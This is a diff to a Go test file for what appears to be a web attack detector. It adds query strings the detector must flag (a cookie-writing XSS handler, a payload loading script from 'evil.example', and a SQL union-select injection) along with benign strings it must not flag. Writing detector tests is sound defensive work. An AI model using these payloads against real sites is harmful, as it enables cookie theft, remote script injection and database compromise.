@@ -119,12 +119,15 @@ func TestQueryReadWhole(t *testing.T) {
 		base64.StdEncoding.EncodeToString([]byte("<svg/onload=alert(1)>")),
 		base64.StdEncoding.EncodeToString([]byte("<a href=javascript:alert(1)>click")),
 		"window%5B%5B'a'%5D%5B0%5D%20+%20'lert'%5D(1337)",
+		"onfocus=;write(cookie)",
+		"onload=x%3D%3E$.getScript('//evil.example/2.js')",
+		"q=1%2Bunion%2Bselect%2B1,2,3--",
 	} {
 		if res := e.Inspect(get("/", q)); !res.Attack() {
 			t.Errorf("?%s: not flagged", q)
 		}
 	}
-	for _, q := range []string{"wsdl", "1698765432123", "filter[status]=open&sort[]=name", "utm_source=newsletter&ref=", "SGVsbG8gd29ybGQsIGhvdyBhcmUgeW91Pw=="} {
+	for _, q := range []string{"wsdl", "1698765432123", "filter[status]=open&sort[]=name", "utm_source=newsletter&ref=", "SGVsbG8gd29ybGQsIGhvdyBhcmUgeW91Pw==", "onboarding=true&onsale=1", "onerror=retry&onchange=submit", "email=john%2Bnews%40example.com", "q=C%2B%2B%2Bor%2BRust"} {
 		if res := e.Inspect(get("/", q)); res.Attack() {
 			t.Errorf("?%s flagged: %+v", q, res.Detections)
 		}
